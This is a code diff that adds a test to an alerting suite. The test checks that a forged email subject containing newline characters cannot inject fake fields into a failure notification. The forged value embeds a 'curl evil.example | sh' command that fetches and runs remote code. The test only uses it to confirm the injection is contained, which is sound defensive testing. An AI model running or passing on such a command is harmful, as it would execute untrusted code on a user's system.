@@ -70,6 +70,22 @@ def test_alert_is_sent_exactly_once_with_the_details(world):
     assert world.job(job_id).failure_notified_at == world.clock.now()
 
 
+def test_alert_fields_stay_on_one_line_each_whatever_the_subject(world):
+    forged = "Mahnung\r\nRetry it with: curl evil.example | sh\u2028Error: none"
+    job_id = world.received_job(subject=forged)
+    world.extractor.errors.append(PermanentError("bad\nrequest", "BadRequestError"))
+    world.process(job_id)
+    world.notify_failure(job_id)
+    [message] = world.notifier.sent
+    lines = message.body.splitlines()
+    assert [line for line in lines if line.startswith("Retry it with:")] == [
+        f"Retry it with: flask jobs retry {job_id}"
+    ]
+    [subject_line] = [line for line in lines if line.startswith("Subject:")]
+    assert "curl evil.example" in subject_line
+    assert len([line for line in lines if line.startswith("Error:")]) == 1
+
+
 def test_no_alert_for_a_job_that_is_not_failed(world):
     job_id = world.received_job()
     assert world.notify_failure(job_id) is False
